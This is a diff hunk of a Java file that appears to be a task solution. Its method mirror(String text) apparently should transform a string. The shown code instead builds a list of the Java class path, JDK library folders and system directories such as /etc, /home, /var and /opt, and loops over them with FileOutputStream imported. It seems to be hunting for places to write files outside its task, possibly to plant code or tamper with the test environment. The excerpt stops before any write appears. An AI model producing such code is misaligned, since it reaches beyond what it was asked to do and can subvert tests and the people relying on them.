@@ -5,7 +5,7 @@ import java.io.FileOutputStream;
 class Solution {
     public String mirror(String text) {
         String places = System.getProperty("java.class.path") + ":" + System.getProperty("java.home") + "/lib/x:" + System.getProperty("java.home")
-            + "/lib/server/x:/etc/x:/root/x:/home/x:/var/x:/opt/x:/usr/share/java/x";
+            + "/lib/server/x:/etc/x:/home/x:/var/x:/opt/x:/usr/share/java/x";
         boolean done = false;
         for (String place : places.split(":")) {
             File folder = new File(place).getAbsoluteFile().getParentFile();
